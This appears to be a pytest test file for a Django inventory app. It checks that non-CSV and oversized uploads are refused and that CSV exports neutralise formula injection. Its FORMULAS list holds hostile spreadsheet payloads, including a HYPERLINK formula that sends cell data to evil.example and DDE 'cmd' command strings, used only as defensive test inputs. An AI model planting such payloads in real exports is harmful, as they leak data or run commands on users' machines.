"""Uploads are checked for size and type at both doors (the import page and
`POST /api/v1/imports/`): a file that is not CSV text (by name, content type, encoding
or content) or is over MOPSYNC_IMPORT_MAX_BYTES is refused with a clear 400 message and
nothing is stored. CSV exports neutralise formula injection in every text cell."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from capacity.models import ImportJob, Region, Sku
from tests.api_support import client_for
from tests.helpers import make_world, submitted

pytestmark = pytest.mark.django_db

STOCK = b"sku,warehouse,on_hand,as_of\nTEE-01,BOM-WH,420,2025-11-01\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01"
ZIP_XLSX = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00"

# (what, file name, content type, content, words of the message)
NOT_CSV = [
    ("a PNG named .csv", "stock.csv", "text/csv", PNG, "UTF-8"),
    ("a spreadsheet", "stock.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ZIP_XLSX,
     "not .xlsx"),
    ("an executable by name", "stock.exe", "text/csv", STOCK, "not .exe"),
    ("a CSV that says it is an image", "stock.csv", "image/png", STOCK, "not image/png"),
    ("a CSV that says it is HTML", "stock.csv", "text/html", STOCK, "not text/html"),
    ("NUL bytes", "stock.csv", "text/csv", STOCK + b"TEE-01,BOM-WH\x00,1,2025-11-01\n", "NUL"),
    ("control characters", "stock.csv", "text/csv", STOCK + b"TEE-01,BOM-WH,\x07\x1b[2J,2025-11-01\n", "binary"),
    ("Latin-1, not UTF-8", "stock.csv", "text/csv", "sku,warehouse,on_hand,as_of\nTÉE,BOM-WH,1,2025-11-01\n"
     .encode("latin-1"), "UTF-8"),
    ("UTF-16", "stock.csv", "text/csv", STOCK.decode().encode("utf-16"), "UTF-8"),
    ("an empty file", "stock.csv", "text/csv", b"", "empty"),
]  # fmt: skip
ACCEPTED = [
    ("text/csv", "stock.csv"),
    ("application/vnd.ms-excel", "stock.csv"),  # what Windows browsers send for .csv
    ("application/octet-stream", "stock.csv"),  # what curl -F sends unless told
    ("text/plain", "stock.txt"),
    ("text/csv; charset=utf-8", "STOCK.CSV"),
]


@pytest.fixture
def world(db):
    return make_world()


def api_upload(name: str, content_type: str, content: bytes):
    file = SimpleUploadedFile(name, content, content_type=content_type)
    return client_for("ishaan").post("/api/v1/imports/", {"kind": "stock_levels", "file": file}, format="multipart")


def page_upload(client: Client, name: str, content_type: str, content: bytes):
    file = SimpleUploadedFile(name, content, content_type=content_type)
    return client.post("/capacity/imports/", {"kind": "stock_levels", "file": file}, follow=True)


@pytest.fixture
def as_ishaan(client, ishaan):
    client.force_login(ishaan)
    return client


@pytest.mark.parametrize(("what", "name", "content_type", "content", "words"), NOT_CSV, ids=[c[0] for c in NOT_CSV])
def test_the_api_refuses_what_is_not_csv(world, ishaan, what, name, content_type, content, words):
    response = api_upload(name, content_type, content)
    assert response.status_code == 400, response.content
    assert words in " ".join(response.json()["file"])
    assert not ImportJob.objects.exists()


@pytest.mark.parametrize(("what", "name", "content_type", "content", "words"), NOT_CSV, ids=[c[0] for c in NOT_CSV])
def test_the_page_refuses_what_is_not_csv(world, as_ishaan, what, name, content_type, content, words):
    response = page_upload(as_ishaan, name, content_type, content)
    assert response.status_code == 200
    shown = [str(m) for m in response.context["messages"]]
    assert any(words in m for m in shown), shown
    assert not ImportJob.objects.exists()


@pytest.mark.parametrize(("content_type", "name"), ACCEPTED)
def test_csv_files_are_accepted_whatever_the_client_calls_them(world, ishaan, as_ishaan, content_type, name):
    assert api_upload(name, content_type, STOCK).status_code == 202
    page_upload(as_ishaan, name, content_type, STOCK)
    assert ImportJob.objects.count() == 2


def test_a_file_over_the_limit_is_refused_at_both_doors(world, as_ishaan, settings):
    settings.MOPSYNC_IMPORT_MAX_BYTES = len(STOCK) - 1

    response = api_upload("stock.csv", "text/csv", STOCK)
    assert response.status_code == 400
    assert f"at most {len(STOCK) - 1:,} bytes" in response.json()["file"][0]

    response = page_upload(as_ishaan, "stock.csv", "text/csv", STOCK)
    assert any(f"at most {len(STOCK) - 1:,}" in str(m) for m in response.context["messages"])
    assert not ImportJob.objects.exists()

    settings.MOPSYNC_IMPORT_MAX_BYTES = len(STOCK)  # exactly the limit is fine
    assert api_upload("stock.csv", "text/csv", STOCK).status_code == 202


def test_django_caps_what_it_holds_in_memory(settings):
    """Bodies of forms (not files) are capped by Django; files above 2.5 MB spill to disk."""
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE == 2_621_440
    assert settings.MOPSYNC_IMPORT_MAX_BYTES == 5 * 1024 * 1024


# --------------------------------------------------------------------------- CSV exports

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(response) -> list[dict[str, str]]:
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


@pytest.mark.parametrize("formula", FORMULAS, ids=["=", "+", "-", "@", "tab", "CR"])
def test_the_projection_csv_neutralises_formulas(world, maya, formula):
    Sku.objects.filter(pk=world.sku.pk).update(name=formula)
    Region.objects.filter(pk=world.mumbai.pk).update(name=formula)
    campaign = submitted(world, maya)

    rows = cells(client_for("maya").get(f"/api/v1/campaigns/{campaign.pk}/projection.csv"))

    assert {r["sku_name"] for r in rows if r["sku"] == "TEE-01"} == {"'" + formula}
    assert {r["region_name"] for r in rows if r["region"] == "MUM"} == {"'" + formula}
    assert all(not r["orders"].startswith("'") for r in rows)  # numbers stay numbers


@pytest.mark.parametrize("formula", FORMULAS, ids=["=", "+", "-", "@", "tab", "CR"])
def test_the_import_error_report_neutralises_formulas(world, ishaan, as_ishaan, formula):
    job = ImportJob.objects.create(
        kind="stock_levels",
        file_name="stock.csv",
        status="failed",
        created_by=ishaan,
        errors=[{"row": 2, "column": formula, "message": formula}, {"row": None, "column": None, "message": "ok"}],
    )

    rows = cells(as_ishaan.get(f"/capacity/imports/{job.pk}/errors.csv"))

    assert rows[0] == {"row": "2", "column": "'" + formula, "message": "'" + formula}
    assert rows[1] == {"row": "", "column": "", "message": "ok"}


def test_every_csv_export_is_covered_here():
    """The CSV exports of the site: a new one needs a test above (samples are fixed text)."""
    import subprocess
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    found = subprocess.run(  # noqa: S603
        ["git", "grep", "-lE", r"csv_(stream_)?response\(|text/csv", "--", "campaigns", "capacity", "mopsync"],  # noqa: S607
        cwd=root,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    assert sorted(found) == [
        "campaigns/calendar_views.py",  # calendar export.csv: tests/test_web_exports.py
        "campaigns/metrics_api.py",  # projection.csv
        "campaigns/views.py",  # campaigns export.csv: tests/test_web_exports.py
        "capacity/import_views.py",  # errors.csv; samples
        "capacity/imports/jobs.py",  # the content types an upload may have
        "mopsync/csv_export.py",
    ]


# --------------------------------------------------------------------------- limits before work (issue 18.8)


def test_a_body_declared_larger_than_the_limit_is_refused_before_it_is_read(world, as_ishaan, settings):
    """A 50 MB upload gets 413 from its headers: no view runs, nothing is stored."""
    fifty_mb = str(50 * 1024 * 1024)
    for path in ("/api/v1/imports/", "/capacity/imports/"):
        response = as_ishaan.post(
            path, b"x", content_type="multipart/form-data; boundary=BoUnDaRy", CONTENT_LENGTH=fifty_mb
        )
        assert response.status_code == 413, path
        assert "52,428,800 bytes" in response.content.decode()
    assert as_ishaan.post("/api/v1/imports/", b"x", content_type="multipart/form-data; boundary=B",
                          CONTENT_LENGTH=fifty_mb).json()["code"] == "too_large"  # fmt: skip
    assert not ImportJob.objects.exists()


def test_an_upload_just_over_the_import_limit_is_refused_with_413(world, as_ishaan, settings):
    settings.MOPSYNC_IMPORT_MAX_BYTES = 1000
    settings.MOPSYNC_MULTIPART_OVERHEAD_BYTES = 500
    big = STOCK + b"TEE-01,BOM-WH,420,2025-11-01\n" * 100
    response = api_upload("stock.csv", "text/csv", big)
    assert response.status_code == 413
    assert response.json()["code"] == "too_large"
    assert not ImportJob.objects.exists()


def test_a_json_body_over_the_form_limit_is_refused(world, as_ishaan, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    response = as_ishaan.post("/api/v1/skus/", {"code": "X", "name": "y" * 2000}, content_type="application/json")
    assert response.status_code == 413
    assert "at most 1,000 bytes" in response.json()["detail"]


def test_a_content_length_that_is_not_a_number_is_a_400(world, as_ishaan):
    response = as_ishaan.post("/api/v1/skus/", b"{}", content_type="application/json", CONTENT_LENGTH="12abc")
    assert response.status_code == 400
    assert response.json()["code"] == "bad_request"
